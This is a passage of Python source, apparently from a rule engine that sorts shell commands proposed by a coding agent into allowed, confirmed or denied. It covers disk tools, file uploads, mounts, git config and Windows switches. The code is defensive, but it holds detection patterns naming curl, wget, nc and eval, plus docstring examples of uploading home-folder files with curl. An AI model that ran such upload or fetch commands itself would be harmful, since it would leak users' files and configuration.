        written = {(w.literal() or "")[3:] for w in cmd.args if (w.literal() or "").startswith("of=")}
        return path not in {os.path.normpath(v) for v in written if v}
    if cmd.name in DISK_INFO or cmd.name == "pv" or _reads_only(cmd, word):
        return True
    if cmd.name == "ddrescue":  # ddrescue INFILE OUTFILE [MAPFILE]: the first is only read
        _f, positionals, _v = _shell.split_options(cmd.args)
        return bool(positionals) and positionals[0] is word
    flags, _pos, _values = _shell.split_options(cmd.args)
    if cmd.name in _DISK_INFO_FLAGS:
        return bool(flags) and set(flags) <= _DISK_INFO_FLAGS[cmd.name] | {"v", "verbose", "u"}
    if cmd.name == "blockdev":
        return all((w.literal() or "").startswith(("--get", "--report", "/dev/")) for w in cmd.args)
    if cmd.name == "parted":
        lits = [w.literal() or "" for w in cmd.args]
        return lits[-1:] == ["print"] or lits[:1] == ["-l"]
    return False


def _uses_key(cmd: Cmd, path: str) -> bool:
    """``ssh-add ~/.ssh/id_ed25519_work``: loading a key into the agent uses it without printing it,
    as ``ssh -i`` does. ``keytool -list -keystore ~/.android/debug.keystore``: listing a keystore
    prints its certificates and fingerprints, which are public, not its private keys."""
    if cmd.name == "ssh-add":
        return os.path.dirname(path) == os.path.join(os.path.normpath(cmd.ctx.home), ".ssh")
    if cmd.name == "keytool":
        lits = {w.literal() for w in cmd.args}
        return bool({"-list", "-printcert"} & lits) and not {"-importkeystore", "-exportcert", "-export"} & lits
    return False


# HTTP clients' options whose value names a file they send (curl -d @file, -F name=@file, -T file).
_UPLOAD_OPTIONS = frozenset({
    "-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--json", "-F", "--form", "-T",
    "--upload-file", "--post-file", "--body-file",
})  # fmt: skip
_UPLOADED_FILE = lazy_compile(r"(?:^|[=;])@(?P<p>[^;,\s]+)")


def _uploads_outside_file(cmd: Cmd, roots: list[str]) -> list[Finding]:
    """``curl -d @$HOME/.gitconfig https://…``, ``curl -F doc=@~/Documents/x.pdf …``: an HTTP client
    sending a file from outside the project (not scratch in the temp folder) to another machine."""
    if cmd.name not in ("curl", "wget", "http", "https", "xh"):
        return []
    _flags, _pos, values = _shell.split_options(cmd.args, _UPLOAD_OPTIONS)
    for key, words in values.items():
        for word in words:
            for value in cmd.values(word) or []:
                if key in ("T", "upload-file", "post-file", "body-file"):
                    target = value
                else:
                    m = _UPLOADED_FILE.search(value)
                    if m is None or m.group("p") == "-":
                        continue
                    target = os.path.expanduser(m.group("p")) if m.group("p").startswith("~") else m.group("p")
                path = _resolve(target, cmd.ctx.cwd)
                if path is None or not outside(path, roots):
                    continue
                if scratch(path, target, cmd.ctx.cwd, roots, cmd.ctx.home) or system_info(path):
                    continue
                return [("deny", _reason(f"`{cmd.display}` sends {path} to another machine", roots))]
    return []


# Where images and removable media are mounted by convention: folders there are mount points,
# not anyone's configuration.
_MOUNT_ROOTS = ("/mnt", "/media", "/run/media")
_MOUNT_VALUE_OPTIONS = frozenset(
    {"-o", "--options", "-t", "--types", "-O", "--test-opts", "-L", "-U", "--label", "--uuid"}
)
# mount --bind /etc /mnt/etc shows (and lets others change) a system folder at another place.
_MOUNT_MOVES = frozenset({"B", "bind", "rbind", "R", "M", "move", "make-shared", "make-rshared"})
_LOOP_DEVICE = lazy_compile(r"/dev/loop\d+")


def _mount_point(path: str, roots: list[str]) -> bool:
    """``/mnt/rootfs``, ``/media/usb``, a folder in the project: a place to mount an image."""
    return any(_shell.is_within(path, r) for r in _MOUNT_ROOTS) or not outside(path, roots)


def _mounts_project_image(cmd: Cmd, roots: list[str]) -> bool:
    """``sudo mount -o loop build/rootfs.img /mnt/rootfs``, ``losetup /dev/loop3 out/fs.img``,
    ``umount /mnt/rootfs``: attaching an image file from the project on a mount point (or a loop
    device), and detaching it, is ordinary image work. Mounting over a system folder (/etc, /usr,
    /), the home folder, a device or a bind of another folder is not this."""
    if cmd.name not in ("mount", "umount", "losetup"):
        return False
    flags, positionals, _values = _shell.split_options(cmd.args, _MOUNT_VALUE_OPTIONS)
    if not positionals or set(flags) & _MOUNT_MOVES:
        return False
    paths: list[str] = []
    for word in positionals:
        known = cmd.values(word) or []
        resolved = _resolve(known[0], cmd.ctx.cwd) if len(known) == 1 else None
        if resolved is None:
            return False
        paths.append(resolved)
    if cmd.name == "umount":
        return all(_mount_point(p, roots) for p in paths)
    if cmd.name == "losetup":
        return all(_LOOP_DEVICE.fullmatch(p) or not outside(p, roots) for p in paths)
    if len(paths) != 2:
        return False
    image, target = paths
    return not outside(image, roots) and _mount_point(target, roots)


def _makes_folder(cmd: Cmd, path: str) -> bool:
    """``mkdir -p ~/.kaggle``: an empty folder in the home folder changes no configuration and
    runs nothing (what is later written into it is judged then); not one that others may write."""
    if cmd.name != "mkdir" or path == os.path.normpath(cmd.ctx.home):
        return False
    _flags, _pos, values = _shell.split_options(cmd.args, frozenset({"-m", "--mode", "--context", "-Z"}))
    modes = [w.literal() or "777" for w in values.get("m", []) + values.get("mode", [])]
    if any(_shell.chmod_grants(m) & {"world-write", "setid"} for m in modes):
        return False
    # sudo mkdir -p /mnt/rootfs: a mount point for an image.
    return _shell.is_within(path, os.path.normpath(cmd.ctx.home)) or any(
        _shell.is_within(path, r) and path != r for r in _MOUNT_ROOTS
    )


# Installed dependencies, toolchains, SDKs and simulators in the home folder: source code and
# build artefacts other projects use too, read to understand a library or a crash. The user's
# configuration and credentials sit beside them (~/.m2/settings.xml, ~/.cargo/credentials.toml,
# ~/.gradle/gradle.properties, ~/.cache/huggingface/token), never inside them.
DEPENDENCY_DIRS = (
    "go/pkg/mod", ".cargo/registry", ".cargo/git", ".rustup/toolchains", ".m2/repository", ".gradle/caches",
    ".gradle/wrapper/dists", ".ivy2/cache", ".sbt/boot", ".nvm/versions", ".pyenv/versions", ".rbenv/versions",
    ".local/lib", ".julia/packages", ".gem", ".nuget/packages", ".pub-cache", ".dotnet", "Library/Developer",
    "Library/Android/sdk", "Android/Sdk", ".android/avd", "miniconda3", "anaconda3", "miniforge3", "mambaforge",
    ".conda/pkgs", ".conda/envs", ".virtualenvs", ".local/share/virtualenvs", ".platformio/packages",
    ".arduino15/packages", ".espressif", ".deno", ".bun/install/cache", ".cache/huggingface/hub", ".cache/torch",
    ".cache/pip", ".cache/go-build", ".stack", ".cabal/packages", ".opam", ".sdkman/candidates", ".jdks",
    ".platformio/platforms", "Arduino/libraries", ".cache/bazel", ".cache/pre-commit", ".vscode/extensions",
    ".vscode-server/extensions", ".cache/ms-playwright", ".cache/uv", ".local/share/uv/python",
    ".local/share/mise/installs", ".asdf/installs", ".volta/tools", ".elan/toolchains", ".ghcup", ".swiftpm",
    ".cocoapods/repos", ".cache/yarn", ".local/share/pnpm/store", ".cache/pypoetry/virtualenvs",
)  # fmt: skip


def dependency_file(path: str, home: str) -> bool:
    """Whether ``path`` lies in an installed dependency, toolchain or SDK folder of the home
    folder (``~/go/pkg/mod/…``, ``~/.m2/repository/…``, ``~/Library/Developer/…``)."""
    home = os.path.normpath(home)
    return any(_shell.is_within(path, os.path.join(home, d)) for d in DEPENDENCY_DIRS)


def _reads_dependency(cmd: Cmd, word: Word, path: str) -> bool:
    """``grep -rn "func Parse" ~/go/pkg/mod/github.com/x/y@v1.2.0``, ``sqlite3 -readonly
    ~/Library/Developer/CoreSimulator/…/Model.sqlite .tables``: reading installed code or a
    simulator's data changes nothing and holds none of the user's credentials."""
    if not dependency_file(path, cmd.ctx.home):
        return False
    if any(r.target is word and r.op not in ("<", "<&") for r in cmd.redirects):
        return False
    lits = [w.literal() or "" for w in cmd.args]
    if cmd.name == "sqlite3":
        return "-readonly" in lits or _sqlite_reads_only(cmd)
    if cmd.name in ARCHIVE_LISTERS:
        return True
    if cmd.name == "unzip":
        return bool({"-l", "-v", "-Z", "-p", "-t"} & set(lits))
    if cmd.name in ("jar", "tar", "bsdtar"):
        mode = next((a.lstrip("-") for a in lits if a and not a.startswith("--")), "")
        return "t" in mode and not {"x", "c", "u", "r"} & set(mode)
    return _reads_only(cmd, word)


# sqlite3 dot commands that only show the database (not .output/.once/.import/.backup/.save,
# which write files, nor .shell/.system).
_SQLITE_SHOWS = frozenset(
    {".tables", ".schema", ".fullschema", ".indexes", ".indices", ".databases", ".dbinfo", ".dump", ".headers"}
    | {".mode", ".width", ".show", ".help", ".stats", ".count", ".print"}
)
_SQLITE_QUERY = lazy_compile(r"(?is)\s*(?:select|explain|with)\b[^;]*")
_SQLITE_WRITES = lazy_compile(
    r"(?i)\b(?:insert|update|delete|drop|create|alter|attach|replace|vacuum|reindex|into|load_extension|writefile)\b"
)


def _sqlite_reads_only(cmd: Cmd) -> bool:
    """``sqlite3 app.sqlite '.tables'``, ``sqlite3 -header db 'SELECT count(*) FROM users;'``: the
    SQL given on the command line only shows the database (dot commands that print, queries that
    select); without SQL on the command line it reads statements from a terminal or stdin."""
    _flags, positionals, values = _shell.split_options(cmd.args, frozenset({"-cmd", "-separator", "-nullvalue"}))
    if values or len(positionals) < 2 or any(r.op.startswith("<") for r in cmd.redirects):
        return False
    for word in positionals[1:]:
        sql = word.literal()
        if sql is None or _SQLITE_WRITES.search(sql):
            return False
        for statement in (part.strip() for part in sql.split(";")):
            dot = statement.split()[0] if statement.startswith(".") else None
            if statement and dot not in _SQLITE_SHOWS and (dot or not _SQLITE_QUERY.fullmatch(statement)):
                return False
    return True


# Where the user's tools write their own logs and crash reports: npm's debug logs, macOS's
# ~/Library/Logs (DiagnosticReports, CoreSimulator), the Gradle daemon's logs. They record what a
# tool did (npm masks tokens in them), not the user's settings or credentials.
TOOL_LOG_DIRS = (
    ".npm/_logs",
    "Library/Logs",
    ".gradle/daemon",
    ".cache/pip/log",
    ".pm2/logs",
    ".config/Code/logs",
    ".vscode-server/data/logs",
    ".minikube/logs",
    ".turbo/daemon",
    ".cache/nx",
    ".nx/workspace-data",
)
_LOG_FILE = lazy_compile(r"(?i)\.(?:log|crash|ips|diag|out)(?:\.\d+)?$")


def tool_log(path: str, home: str) -> bool:
    """Whether ``path`` is a log or crash report one of the user's tools wrote in the home folder
    (``~/.npm/_logs/…-debug-0.log``, ``~/Library/Logs/DiagnosticReports/App.crash``), or such a
    log folder itself (what a glob over it, ``~/.npm/_logs/*.log``, resolves to)."""
    home = os.path.normpath(home)
    folder = next((os.path.join(home, d) for d in TOOL_LOG_DIRS if _shell.is_within(path, os.path.join(home, d))), None)
    if folder is None:
        return False
    return (
        path == folder
        or _LOG_FILE.search(path) is not None
        or _shell.is_within(path, os.path.join(home, "Library/Logs"))
    )


def _reads_tool_log(cmd: Cmd, word: Word, path: str) -> bool:
    """``tail -50 ~/.npm/_logs/*-debug-0.log``: reading a tool's own log to see why it failed
    (not writing or deleting it)."""
    return tool_log(path, cmd.ctx.home) and _reads_only(cmd, word)


# Programs that list or disassemble an archive or a binary without changing it.
ARCHIVE_LISTERS = frozenset({"zipinfo", "javap", "nm", "objdump", "readelf", "otool", "ldd", "size"})


# Options of docker itself (before the subcommand) that take a value.
DOCKER_GLOBAL_OPTIONS = DOCKER_VALUE_OPTIONS | {"-c", "--context", "-H", "--host", "--config", "--log-level"}


def _path_like(value: str) -> bool:
    if not value or "\n" in value or "://" in value or value.startswith("-"):
        return False
    if value.startswith(("/", "~")):
        return True
    parts = value.split("/")
    return ".." in parts


def _resolve(value: str, cwd: str | None) -> str | None:
    if value.startswith("/") and ":/" in value:
        value = value.split(":", 1)[0]  # docker -v /host:/container → the host side
    prefix, glob_part = _shell.glob_split(value)
    return _shell.normalize(prefix if glob_part else value, cwd)


def _clone_beside_project(cmd: Cmd, dest: Word) -> bool:
    """``git clone https://…/lib.git ../lib``: a new checkout next to the project (a sibling
    folder, not a dot-folder) adds a repository beside it, like ``git worktree add ../x``; git
    refuses to clone into a folder that is not empty, so nothing there is overwritten."""
    values = cmd.values(dest) or []
    project = os.path.normpath(cmd.ctx.project)
    for value in values:
        path = _shell.normalize(value, cmd.ctx.cwd)
        if path is None or os.path.dirname(path) != os.path.dirname(project) or path == project:
            return False
        if os.path.basename(path).startswith("."):
            return False
    return bool(values)


def _bash_path_words(cmd: Cmd) -> list[Word]:
    """The words of ``cmd`` that name files or directories."""
    name = cmd.name
    words: list[Word] = []
    for r in cmd.redirects:
        if (
            r.op in OUTPUT_REDIRECTS
            and r.target is not None
            and not (r.op in (">&", "<&") and (r.target.literal() or "").rstrip("-").isdigit())
        ):
            words.append(r.target)
    if name in NO_PATH_ARGS or not cmd.argv:
        return words
    args = _without_url_routes(cmd.args)
    if name == "git":
        _flags, _pos, values = _shell.split_options(
            args, frozenset({"-C", "--git-dir", "--work-tree", "-c"}), stop_at_first=True
        )
        words += values.get("C", []) + values.get("git-dir", []) + values.get("work-tree", [])
        if _pos and _pos[0].literal() == "clone" and len(_pos) > 2 and not _clone_beside_project(cmd, _pos[-1]):
            words.append(_pos[-1])
        return words
    if name in ("cd", "pushd"):
        if name == "cd" and any(w.literal() == "-" for w in args) and cmd.ctx.oldpwd is not None:
            return words  # cd - after a cd: back to where this command already was
        targets = [w for w in args if not (w.literal() or "").startswith("-")]
        return words + (targets[:1] or [Word([_shell.Var("~")], "~")])
    if name == "find":
        for w in args:
            lit = w.literal()
            if lit is not None and (lit.startswith("-") or lit in ("(", "!")):
                break
            words.append(w)
        return words
    if name == "dd":
        for w in args:
            lit = w.literal() or ""
            if lit.startswith(("if=", "of=")):
                words.append(Word([_shell.Lit(lit[3:], True)], lit[3:]))
        return words
    if name == "ln":
        return words + _ln_words(cmd)
    if name == "openssl":
        # Single-dash long options; only these take file names.
        lits = [w.literal() for w in args]
        return words + [
            args[i + 1]
            for i, lit in enumerate(lits[:-1])
            if lit in ("-in", "-out", "-keyout", "-key", "-config", "-CAfile", "-cert", "-signkey")
        ]
    if name in _shell.INTERPRETERS or name in _shell.AWKS:
        words += [Word([_shell.Lit(path, True)], path) for path, _w in _shell.code_file_refs(cmd)]
    if name in _shell.INTERPRETERS or name in _shell.SHELLS:
        skip_next = False
        for w in args:
            lit = w.literal() or ""
            if skip_next:
                skip_next = False
                continue
            if lit in ("-c", "-e", "-E", "--eval", "-m", "-r") or (
                lit.startswith("-") and lit[-1:] in ("c", "e") and len(lit) <= 4
            ):
                skip_next = True  # inline code / module name, not a path
                continue
            words.append(w)
        return words
    if name in ("docker", "podman", "docker-compose"):
        # Container-side paths are not host paths: only check host mounts and input files.
        # Options end at the subcommand's first operand (the image): what follows is the
        # container's command line (docker run IMG rm -rf /work/out: -rf is not --file).
        _flags, sub, top = _shell.split_options(args, DOCKER_GLOBAL_OPTIONS, stop_at_first=True)
        _flags, _pos, values = _shell.split_options(sub[1:], DOCKER_VALUE_OPTIONS, stop_at_first=True)
        for key in ("v", "volume", "f", "file", "env-file"):
            words += top.get(key, []) + values.get(key, [])
        return words
    if name in _shell.DOWNLOADERS:
        _flags, _pos, values = _shell.split_options(args, DOWNLOAD_FILE_OPTIONS)
        for key in ("o", "output", "O", "output-document", "T", "upload-file", "P", "directory-prefix", "K", "config"):
            if key != "O" or name == "wget":
                words += values.get(key, [])
        return words
    if name in ("aws", "az"):
        args = _without_resource_names(args)
        if [w.literal() for w in args[:2]] == ["logs", "tail"]:
            args = args[:2] + args[3:]  # aws logs tail /aws/lambda/x: the log group
    if name in _OTHER_SIDE_TOOLS:
        return words + _host_side_words(cmd)
    if (
        name in _WINDOWS_SWITCH_TOOLS
        or (name == "cmd" and _cmd_exe_reads(args))
        or _windows_query([w.literal() for w in args], name)
    ):
        args = [w for w in args if not _windows_switch(w.literal() or "")]
    _flags, positionals, values = _shell.split_options(args, _shell.VALUE_OPTIONS.get(name, frozenset()))
    if name in _shell.PATTERN_FIRST and not ({"e", "f", "regexp", "file", "expression"} & set(values)):
        positionals = positionals[1:]
    for key in PATH_VALUE_KEYS:
        words += values.get(key, [])
    if name in ("cp", "mv", "install", "ln"):
        words += values.get("t", [])
    return words + positionals


# Windows programs (run from WSL or Git Bash) and .NET's build tools take switches written with a
# slash: cmd.exe /c ver, ipconfig.exe /all, dotnet build /p:Configuration=Release /m, msbuild
# /t:Rebuild. One slash, a switch name and an optional :value are not a path (unless the name is
# a Unix top folder, or the value itself names a path or a drive).
_WINDOWS_SWITCH_TOOLS = frozenset({
    "dotnet", "msbuild", "nuget", "csc", "vbc", "vstest.console", "mstest", "ipconfig", "systeminfo", "tasklist",
    "whoami", "wsl", "findstr", "where", "ver", "driverquery", "wmic", "getmac", "taskkill",
})  # fmt: skip
# Windows admin tools in the mode that only shows something: schtasks /Query, reg query, icacls
# with no switch that changes rights. Their other modes (schtasks /Create, reg add, icacls /grant)
# keep their switches judged.
_ICACLS_CHANGES = frozenset({
    "/grant", "/deny", "/remove", "/setowner", "/reset", "/setintegritylevel", "/restore", "/inheritance",
    "/substitute", "/save",
})  # fmt: skip


def _windows_query(lits: list[str | None], name: str) -> bool:
    """``schtasks /Query /FO LIST``, ``reg query HKLM\\… /v ProductName``, ``icacls build\\out.txt /T``:
    a Windows admin tool run only to show something."""
    words = [(x or "").lower().split(":", 1)[0] for x in lits]
    if None in lits or not words:
        return False
    if name == "schtasks":
        return words[0] == "/query"
    if name == "reg":
        return words[0] == "query"
    if name == "icacls":
        return not any(w.rstrip("]") in _ICACLS_CHANGES or w.startswith("/grant") for w in words)
    return False


# What cmd.exe /c may run with its switches passing: commands that only show something.
_CMD_READS = frozenset({"ver", "echo", "dir", "type", "set", "vol", "path", "whoami", "hostname", "systeminfo",
                        "ipconfig", "tasklist", "where", "findstr"})  # fmt: skip
_WINDOWS_SWITCH = lazy_compile(r"/(?P<name>[A-Za-z?][\w?.+-]*)(?:[:=](?P<value>.*))?")
_UNIX_TOPS = frozenset({
    "etc", "usr", "var", "tmp", "bin", "sbin", "lib", "lib32", "lib64", "opt", "home", "root", "dev", "proc", "sys",
    "boot", "mnt", "media", "srv", "run", "snap", "nix", "private", "users", "system", "library", "applications",
    "volumes", "cores", "scratch", "data", "work", "workspace", "gpfs", "lustre",
})  # fmt: skip


def _cmd_exe_reads(args: list[Word]) -> bool:
    """``cmd.exe /c ver``, ``cmd.exe /c "dir /s /b"``: cmd running one command that only shows
    something, with no redirection or chaining (rd, del, reg, icacls … stay judged)."""
    lits = [w.literal() for w in args]
    if len(lits) < 2 or (lits[0] or "").lower() not in ("/c", "/k") or any(x is None for x in lits):
        return False
    rest = " ".join(x for x in lits[1:] if x is not None)
    words = rest.split()
    if not words or any(ch in rest for ch in "<>|&"):
        return False
    name = words[0].lower().removesuffix(".exe")
    return name in _CMD_READS or _windows_query(list(words[1:]), name)


def _windows_switch(text: str) -> bool:
    """``/c``, ``/all``, ``/p:TreatWarningsAsErrors=true``: a Windows-style switch, not a path."""
    m = _WINDOWS_SWITCH.fullmatch(text)
    if m is None or m.group("name").lower() in _UNIX_TOPS:
        return False
    value = m.group("value") or ""
    return not ("/" in value or "~" in value or ".." in value or _WINDOWS_PATH.search(value))


# AWS names resources with slashes (CloudWatch log groups /aws/lambda/x, IAM paths /service/,
# SSM parameter prefixes): the value of a --…-name / --…-prefix / --path option names a resource
# in the account, not a local file (files are given as file:// or fileb:// URLs).
_AWS_NAME_OPTION = lazy_compile(r"--(?:[\w-]+-)?(?:name|names|prefix|path)")


def _without_resource_names(args: list[Word]) -> list[Word]:
    """``args`` without the values of AWS options that name resources."""
    kept: list[Word] = []
    skip = False
    for w in args:
        lit = w.literal() or ""
        if skip:
            skip = False
            continue
        option, eq, _value = lit.partition("=")
        if _AWS_NAME_OPTION.fullmatch(option):
            skip = not eq
            continue
        kept.append(w)
    return kept


# Servers take the URL path they answer under as an option (appium --base-path /wd/hub, uvicorn
# --root-path /api, ng serve --base-href /admin/, vite --base /app/, tensorboard --path_prefix /tb,
# streamlit --server.baseUrlPath /dash, --mount-path /graphql, --health-path /healthz): a route on
# the server, not a file. Words of the option's name that say so (camelCase, -, _ and . split it):
_ROUTE_WORDS = frozenset({"url", "uri", "href", "route", "routes", "endpoint", "base", "pathbase", "basepath"})
# ... and the qualifiers that turn a "path" or "prefix" option into one (--metrics-path, --api-prefix);
# a bare --path or --prefix (an install prefix) stays a file path.
_ROUTE_QUALIFIERS = frozenset({
    "base", "root", "mount", "context", "servlet", "api", "www", "health", "healthcheck", "metrics",
    "telemetry", "callback", "redirect", "webhook", "hook", "login", "logout", "static", "public", "web",
    "http", "ws", "websocket", "graphql", "docs", "openapi", "swagger", "status", "ready", "readiness",
    "liveness", "probe", "admin", "ui", "sub", "proxy", "assets", "deploy", "app", "site",
})  # fmt: skip
# The words of an option's name: runs of letters and digits, a capital starting a new word.
_OPTION_WORDS = lazy_compile(r"[A-Z]?[a-z0-9]+|[A-Z]+(?![a-z])")


def _route_option(option: str) -> bool:
    """``--base-path``, ``--url-prefix``, ``--server.baseUrlPath``, ``--path_prefix``: a long
    option whose name says its value is a URL path on a server."""
    if not option.startswith("--"):
        return False
    words = [w.lower() for w in _OPTION_WORDS.findall(option[2:])]
    if set(words) & _ROUTE_WORDS or {"path", "prefix"} <= set(words):
        return True
    return bool({"path", "prefix"} & set(words)) and bool(set(words) & _ROUTE_QUALIFIERS)


def _url_route(value: str) -> bool:
    """``/wd/hub``, ``/api/v1/``: a value that can only be a URL path — it names nothing that
    exists on this machine, and its first folder is no system folder a path could start in."""
    if not value.startswith("/") or value.startswith("//") or any(c in value for c in "~$*?\\\n"):
        return False
    parts = value.split("/")
    if ".." in parts or "." in parts:
        return False
    top = parts[1]
    if not top or top.startswith(".") or top.lower() in _UNIX_TOPS or _WINDOWS_PATH.match(value[1:]):
        return False
    return not os.path.lexists("/" + top)


# Programs whose operands are files they create, copy to or change: an absent folder there is
# one they would make.
_FILE_WRITERS = frozenset({
    "cp", "mv", "install", "ln", "rsync", "scp", "sftp", "tee", "dd", "tar", "zip", "unzip", "7z", "mkdir", "touch",
    "truncate", "sed", "chmod", "chown", "chgrp", "mount", "git", "curl", "wget", "gsutil", "rclone", "aws", "azcopy",
})  # fmt: skip


# Options whose value is a file or folder the program writes (or a file it is given).
_OUTPUT_OPTION = lazy_compile(
    r"-[oOf]|--?(?:out|output|file|dest|destination|save|target|export|log|dump)(?:[-_]?\w+)?"
)
# A PowerShell cmdlet's name (Verb-Noun, as the parser lower-cases it).
_CMDLET = lazy_compile(r"[a-z]+-[a-z]+")


def _names_no_local_file(cmd: Cmd, word: Word, value: str) -> bool:
    """``kubectl get --raw /apis/metrics.k8s.io/v1beta1/nodes``, ``etcdctl get /registry/pods``,
    ``mosquitto_sub -t /sensors/+/temp``, ``npx playwright test --grep /checkout/``: a word
    written as an absolute path whose first folder does not exist on this machine and is no
    system folder names an API path, a key or a pattern, not a local file — there is nothing
    there to read. Not when run as root (which may create it), not a redirection target, not a
    name that says it holds secrets (/secrets/…, /vault/…, *.pem)."""
    if "sudo" in cmd.wrappers or cmd.name in _FILE_WRITERS or any(r.target is word for r in cmd.redirects):
        return False
    before = next((cmd.args[i - 1].literal() for i, w in enumerate(cmd.args) if w is word and i > 0), None)
    if before is not None and _OUTPUT_OPTION.fullmatch(before):
        return False  # --output /billing: a file the program would write there
    if cmd.name in _WINDOWS_WRITERS or _CMDLET.fullmatch(cmd.name or ""):
        return False  # Remove-Item D:\\Shared\\x: the parser reads a drive path as /Shared/x
    if word.literal() != value or _SECRET_COMPONENT.search(value) or ":" in value:
        return False  # /:/host is docker's host root; C:\\…, /grant:r are Windows'
    # For a Windows program one bare component (/c, /Create, /v) is a switch, judged as before.
    if len([p for p in value.split("/") if p]) < 2 and _windows_program(cmd):
        return False
    return _url_route(value)


# Windows programs run from WSL or Git Bash without their .exe (reg add, schtasks /Create …).
_WINDOWS_PROGRAMS = frozenset({
    "schtasks", "reg", "icacls", "cacls", "cmd", "rd", "del", "erase", "net", "sc", "takeown", "bcdedit", "wmic",
    "vssadmin", "cipher", "format", "diskpart", "attrib", "robocopy", "xcopy", "taskkill", "netsh", "wevtutil",
    "powercfg", "bitsadmin", "certutil", "msiexec", "regsvr32", "rundll32", "mshta", "wscript", "cscript", "setx",
    "runas", "fsutil", "manage-bde", "sfc", "dism", "wbadmin", "auditpol", "secedit", "gpupdate",
})  # fmt: skip


def _windows_program(cmd: Cmd) -> bool:
    """Whether ``cmd`` runs a Windows program (``reg``, ``schtasks.exe``, ``x.bat``), whose
    switches start with a slash."""
    first = (cmd.argv[0].raw if cmd.argv else "").strip("'\"").lower()
    return cmd.name in _WINDOWS_PROGRAMS or first.endswith((".exe", ".bat", ".cmd", ".com"))


def _without_url_routes(args: list[Word]) -> list[Word]:
    """``args`` without a URL-path option's separate value (``--base-path /wd/hub``): the value
    names a route on the server being started, not a file. A value that may be a real path (an
    existing folder, a system folder, ``..``) stays and is judged."""
    kept: list[Word] = []
    skip = False
    for i, w in enumerate(args):
        if skip:
            skip = False
            continue
        lit = w.literal() or ""
        nxt = args[i + 1].literal() if i + 1 < len(args) else None
        if _route_option(lit) and "=" not in lit and nxt is not None and _url_route(nxt):
            skip = True
        kept.append(w)
    return kept


# Tools whose paths are on another machine or file system: a phone or emulator (adb shell, the
# device side of push/pull), HDFS (hdfs dfs, hadoop fs), a multipass VM. Only the host side of a
# transfer is a local path: what push/put sends, where pull/get writes.
_OTHER_SIDE_TOOLS = frozenset({"adb", "hdfs", "hadoop", "multipass"})
_SENDS = frozenset({"push", "-put", "-copyFromLocal", "-moveFromLocal", "-appendToFile"})
_FETCHES = frozenset({"pull", "-get", "-copyToLocal", "-getmerge", "-moveToLocal"})
_LOCAL_FILE_VERBS = frozenset({"install", "install-multiple", "sideload", "restore", "backup"})


def _host_side_words(cmd: Cmd) -> list[Word]:
    """The local paths of an adb / hdfs dfs / hadoop fs / multipass command line."""
    args = list(cmd.args)
    if cmd.name == "adb":
        _flags, args, _values = _shell.split_options(args, frozenset({"-s", "-t", "-H", "-P", "-L"}), True)
    elif cmd.name in ("hdfs", "hadoop") and args and args[0].literal() in ("dfs", "fs"):
        args = args[1:]
    elif cmd.name == "multipass":
        # multipass exec/shell run in the VM; transfer and mount name host paths without "vm:".
        verb = args[0].literal() if args else None
        if verb not in ("transfer", "copy-files", "mount"):
            return []
        return [w for w in args[1:] if ":" not in w.text and not (w.literal() or "").startswith("-")]
    else:
        return args  # hadoop jar job.jar, hdfs namenode …: local as before
    if not args:
        return []
    verb = args[0].literal() or ""
    rest = [w for w in args[1:] if not (w.literal() or "").startswith("-")]
    if verb in _SENDS:
        return rest[:-1]
    if verb in _FETCHES:
        return rest[-1:] if len(rest) > 1 else []
    if verb in _LOCAL_FILE_VERBS:
        return rest
    return []  # adb shell …, hdfs dfs -ls /user/x: paths on the device or in HDFS


def _ln_words(cmd: Cmd) -> list[Word]:
    """``ln -s TARGET LINK``: a relative TARGET is resolved from LINK's folder, not the cwd."""
    flags, positionals, values = _shell.split_options(cmd.args, _shell.VALUE_OPTIONS["cp"])
    if not positionals:
        return []
    link_dir = values.get("t") or values.get("target-directory")
    link = link_dir[0] if link_dir else positionals[-1]
    targets = positionals if link_dir else positionals[:-1]
    words = [link]
    symbolic = "s" in flags or "symbolic" in flags
    link_values = cmd.values(link) or []
    base = _shell.normalize(link_values[0], cmd.ctx.cwd) if link_values else None
    if base is not None and not (link_dir or link.text.endswith("/") or os.path.isdir(base)):
        base = os.path.dirname(base)
    for target in targets:
        values_ = cmd.values(target) or []
        if symbolic and base is not None and values_ and not values_[0].startswith(("/", "~")):
            joined = os.path.join(base, values_[0])
            words.append(Word([_shell.Lit(joined, True)], joined))
        else:
            words.append(target)
    return words


# git config options that only read, and those that say which file is written.
_GIT_CONFIG_READS = frozenset({
    "--get", "--get-all", "--get-regexp", "--get-urlmatch", "-l", "--list", "--show-origin",
    "--show-scope", "--name-only", "--null", "-z", "--default", "--type", "--bool", "--int", "--path",
})  # fmt: skip
_GIT_CONFIG_USER_SCOPES = frozenset({"--global", "--system"})
# Settings that make every repository of the user run or trust something: the settled calls
# treat them as dangerous whatever the value (core.hooksPath pointing every repository at one
# folder, a template or an included file that does the same, trust or TLS checks switched off).
_GIT_ALL_REPOS_KEYS = lazy_compile(
    r"core\.hookspath|init\.templatedir|include\.path|includeif\..*\.path|"
    r"http\.(?:.*\.)?sslverify|url\..*\.(?:push)?insteadof"
)
# Settings whose value is a command git runs (pager, editor, ssh, filters, shell aliases).
_GIT_COMMAND_KEYS = lazy_compile(
    r"core\.(?:pager|editor|sshcommand|fsmonitor|askpass|gitproxy)|sequence\.editor|pager\..*|"
    r"diff\.external|diff\..*\.textconv|filter\..*\.(?:clean|smudge|process)|merge\..*\.driver|"
    r"gpg\.(?:.*\.)?program|credential\.(?:.*\.)?helper|interactive\.difffilter|alias\..*"
)
# A command value that fetches, chains or hides code, rather than naming a local program.
_GIT_RISKY_VALUE = lazy_compile(r"https?://|\b(?:curl|wget|nc|bash|sh|python3?|perl|eval)\b|[|;&`]|\$\(|/tmp/")


def _git_config_findings(cmd: Cmd, roots: list[str]) -> list[Finding]:
    """``git config --global …`` writes ~/.gitconfig, the user's configuration outside the
    project: a harmless setting (an alias, ``pull.rebase``) is confirmed; one that makes every
    repository run or trust something, or a command value that fetches or chains code, is
    refused. In any scope, ``core.hooksPath`` outside the project runs hooks from elsewhere."""
    if cmd.name != "git":
        return []
    _flags, positionals, _values = _shell.split_options(
        cmd.args, frozenset({"-C", "-c", "--git-dir", "--work-tree"}), stop_at_first=True
    )
    if not positionals or positionals[0].literal() != "config":
        return []
    texts = [w.literal() or w.text for w in positionals[1:]]
    options = [t for t in texts if t.startswith("-")]
    operands = [t for t in texts if not t.startswith("-")]
    if operands[:1] in (["get"], ["list"]) or set(options) & _GIT_CONFIG_READS:
        return []
    if operands[:1] == ["set"]:
        operands = operands[1:]
    user = set(options) & _GIT_CONFIG_USER_SCOPES
    writes = len(operands) >= 2 or bool(
